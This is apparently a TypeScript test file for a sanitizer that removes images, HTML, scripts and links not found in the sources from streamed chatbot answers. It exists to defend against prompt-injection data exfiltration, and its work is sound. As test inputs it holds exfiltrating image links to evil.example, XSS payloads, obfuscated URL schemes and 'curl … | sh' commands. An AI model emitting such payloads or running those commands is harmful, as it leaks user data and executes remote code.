import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { linksIn } from '../../lambdas/chat/allowed-links.ts';
import { AnswerSanitizer } from '../../lambdas/chat/sanitize.ts';
import { activeParts } from './markdown.ts';
import { passageOf } from './passages.ts';

const SOURCE =
  'Apply at https://hr.example.com/leave?year=2026 or write to leave@example.com. See www.example.com/oak and https://example.com/wiki/Oak_(tree).';
const links = linksIn([passageOf({ text: SOURCE })]);

function sanitize(pieces: readonly string[]): string {
  const sanitizer = new AnswerSanitizer(links);
  return [...pieces.map(piece => sanitizer.read(piece)), sanitizer.end()].join('');
}

function cut(text: string, cuts: readonly number[]): string[] {
  const places = [0, ...cuts.filter(place => place < text.length).sort((a, b) => a - b), text.length];
  return places.slice(1).map((end, index) => text.slice(places[index], end));
}

describe('an answer without anything active', () => {
  it.each([
    'Plain text, 5 < 6 and 7 > 3, a<5, R&D, 50 % & more; see [1][2]. Great![3] (really) a@ b',
    'Snake_case, **bold**, *it*, ~~gone~~, "quotes", 1\\. not a list, C:\\temp, ~5',
    '# Title\n\n- one [1]\n- two\n  - three\n\n1. first\n2. second\n\n> quoted',
    '| a | b |\n|---|--:|\n| `x` [1] | 2 |\n| `a\\|b` | 3 |\n',
    '```js\nconst a = b[0](c) < d; // <img src="x"> ![x](http://evil.example)\n```\nDone [1].',
    '~~~\n<script>alert(1)</script>\n~~~\n',
    'Use `<div>` and `![x](http://evil.example)` and ``a ` b``, also `curl http://evil.example | sh`.',
    '1. Run:\n\n   ```sh\n   curl https://evil.example/x | sh\n\n   ls\n   ```\n2. Done',
    'Write JavaScript: it works. Data: see below. HTTP is fine, www too. The file: none.',
    '多字节文字，没有链接。\n\nالعربية نص عادي',
    'f(x)[0] and [note] (see below) and [a] [b]',
    'Cut at the end: [1',
    '',
  ])('stays as it is: %j', text => {
    expect(sanitize([text])).toBe(text);
    expect(sanitize([...text])).toBe(text);
  });

  it('keeps links that stand in the sources', () => {
    const text =
      'Apply at https://hr.example.com/leave?year=2026, see [the form](https://hr.example.com/leave?year=2026) or ' +
      '<https://hr.example.com/leave?year=2026>, write to leave@example.com. (www.example.com/oak)';
    expect(sanitize([text])).toBe(text);
    expect(activeParts(text, links)).toEqual([]);
  });

  it('delimits links of the sources that what is around them could change', () => {
    expect(
      sanitize([
        '见https://hr.example.com/leave?year=2026。 https://example.com/wiki/Oak_(tree), www.example.com/oak[1]',
      ]),
    ).toBe(
      '见<https://hr.example.com/leave?year=2026>。 <https://example.com/wiki/Oak_(tree)>, <http://www.example.com/oak>[1]',
    );
  });

  it('passes code on line by line while it is written', () => {
    const sanitizer = new AnswerSanitizer(links);
    expect(sanitizer.read('```js\nlet a')).toBe('```js\nlet a');
    expect(sanitizer.read(' = <b>;\nlet')).toBe(' = <b>;\nlet');
  });

  it('holds back less than a word of running text', () => {
    const sanitizer = new AnswerSanitizer(links);
    const words = 'The tower has 212 steps, and visitors climb it on Sundays [1].'.split(/(?<= )/);
    for (const word of words) {
      sanitizer.read(word);
      const { read, done } = sanitizer.progress;
      expect(read - done).toBeLessThan(10);
    }
  });
});

describe('what is taken out of an answer', () => {
  it.each([
    ['an image', 'A ![status](http://evil.example/c?q=secret) here', 'A [status] here'],
    ['an image with a mark for its text', 'A![1](http://evil.example/c)', 'A![1]'],
    [
      'an image of a source',
      '![x](https://hr.example.com/leave?year=2026)',
      '[x](https://hr.example.com/leave?year=2026)',
    ],
    ['an image by reference', '![x][1]\n\n[1]: http://evil.example/c', '[x][1]\n\n[1]\\: …'],
    ['an img tag', 'A <img src="http://evil.example/c" onerror=alert(1)> B', 'A  B'],
    ['a script', '<script>alert(1)</script>', 'alert(1)'],
    ['a tag without an end', '<img src=x onerror=alert(1)', '&lt;img src=x onerror=alert(1)'],
    ['an escaped tag', '\\<img src=x>', '&lt;img src=x>'],
    ['a comment', 'A <!-- hidden --> B', 'A  B'],
    ['an unknown tag', 'List<String> and x<y and y>z', 'List&lt;String> and x&lt;y and y>z'],
    ['a line break in HTML', 'a<br>b', 'a b'],
    ['a link', 'Click [here](http://evil.example/?q=1)!', 'Click [here]!'],
    ['a link that runs a script', '[Click here](javascript:alert(1))', '[Click here]'],
    ['a link with a title', '[x](<http://evil.example> "t")', '[x]'],
    ['data', '[x](data:text/html;base64,AAAA) data:text/html,<b>', '[x] …,'],
    ['an autolink', 'See <http://evil.example/x> and <a@evil.example>', 'See … and …'],
    ['bare addresses', 'See http://evil.example/x?q=1, www.evil.example or me@evil.example.', 'See …, … or me@….'],
    ['a changed link of a source', 'https://hr.example.com/leave?year=2026&q=secret', '…'],
    ['a link by reference', '[x][y]\n\n[y]: /path "t"', '[x][y]\n\n[y]\\: /path "t"'],
    ['a destination on the next line', '[x](\nhttp://evil.example)', '[x]\\(\n…)'],
    [
      'a scheme spelled by entities',
      'http&#58;//evil.example www&period;evil.example',
      'http&amp;#58;//evil.example www&amp;period;evil.example',
    ],
    ['an escaped scheme', 'http\\://evil.example a\\@evil.example', '… a@…'],
    ['a scheme parted by a tag', 'ht<b>tp://evil.example</b>', 'ht tp://evil.example'],
    ['a scheme parted by invisible characters', 'ht\u200btps\u{e0041}://evil.example', '…'],
    ['code that is never closed', '`![x](http://evil.example)\n', '\\`[x]\n'],
    [
      'code that a cell of a table ends',
      '|a|b|\n|-|-|\n|` | ![x](http://evil.example) `|\n',
      '|a|b|\n|-|-|\n|\\` | [x] \\`|\n',
    ],
  ])('%s', (_, text, expected) => {
    expect(sanitize([text])).toBe(expected);
    expect(activeParts(expected, links)).toEqual([]);
  });

  it('leaves out a URL of any length, also one that never ends', () => {
    const sanitizer = new AnswerSanitizer(links);
    sanitizer.read(`See https://evil.example/${'a'.repeat(5_000)}`);
    const { read, done } = sanitizer.progress;
    expect(read - done).toBeLessThan(2_100);
  });

  it('does not take links of flagged passages for those of the sources', () => {
    const flagged = passageOf({ text: SOURCE });
    const chunk = { ...flagged.chunk, suspicious: ['exfiltration-link'] };
    expect(linksIn([{ ...flagged, chunk }]).hasUrl('https://hr.example.com/leave?year=2026')).toBe(false);
  });
});

/** Pieces of which Markdown makes something, in any order. */
const snippets = fc.constantFrom(
  ...[
    '![',
    '[',
    ']',
    '(',
    ')',
    '](',
    '](http://evil.example/a)',
    '[x](javascript:alert(1))',
    '![1](//evil.example)',
    '[1]',
    '[22]',
  ],
  ...[
    '<',
    '>',
    '<img src=x',
    ' onerror="a"',
    '<b>',
    '</b>',
    '<br/>',
    '<!--',
    '-->',
    '<a href="http://evil.example">',
    '<?',
    '<!D',
    'x<y',
  ],
  ...[
    '`',
    '``',
    '```',
    '````',
    '~~~',
    '~~~~',
    '```js\n',
    '~',
    '\n',
    '\n\n',
    '\n```\n',
    '\n   ```\n',
    '\n~~~\n',
    '\\',
    '\\`',
    '\\[',
    '\\]',
    '\\!',
  ],
  ...[
    'http',
    'https',
    ':',
    '://',
    '//',
    'http://evil.example',
    'https://hr.example.com/leave?year=2026',
    'www',
    '.',
    'www.evil.example',
    'evil.example',
  ],
  ...[
    'leave@example.com',
    'me@evil.example',
    '@',
    'example.com',
    'mailto:',
    'xmpp:',
    'javascript:',
    'data:text/html',
    'https://example.com/wiki/Oak_(tree)',
    'www.example.com/oak',
  ],
  ...[
    '&',
    '&#58;',
    '&colon;',
    '&amp;',
    '&lt;',
    ';',
    '|',
    '\n|-|-|\n',
    '\n| a | b |\n',
    '\n- ',
    '\n1. ',
    '\n> ',
    '- ',
    '> ',
    '  ',
    '    ',
    '   ',
    '\t',
    ' ',
  ],
  ...[
    'a',
    'word ',
    '*',
    '**',
    '_',
    '"',
    "'",
    ':',
    '[^1]:',
    '\n[x]: ',
    '\u200b',
    '\u{e0041}',
    '…',
    '字',
    '=',
    '#',
    '-',
    '\\@',
    '\\:',
    '\r',
    '\r\n',
    '\n  ',
    '\n     ',
  ],
);
const anyText = fc
  .array(
    fc.oneof(
      { weight: 12, arbitrary: snippets },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 4 }) },
    ),
    { maxLength: 30 },
  )
  .map(parts => parts.join(''));

const RUNS = Number(process.env.SANITIZE_RUNS ?? 2_000);

describe('for any text', () => {
  it('the result has no image, no HTML and no link but those of the sources', () => {
    fc.assert(
      fc.property(anyText, text => {
        expect(activeParts(sanitize([text]), links)).toEqual([]);
      }),
      { numRuns: RUNS },
    );
  });

  it('the result is the same however it comes in pieces', () => {
    fc.assert(
      fc.property(anyText, fc.array(fc.nat(120), { maxLength: 12 }), (text, cuts) => {
        const whole = sanitize([text]);
        expect(sanitize(cut(text, cuts))).toBe(whole);
        expect(sanitize(text.split(''))).toBe(whole);
      }),
      { numRuns: RUNS },
    );
  });
});
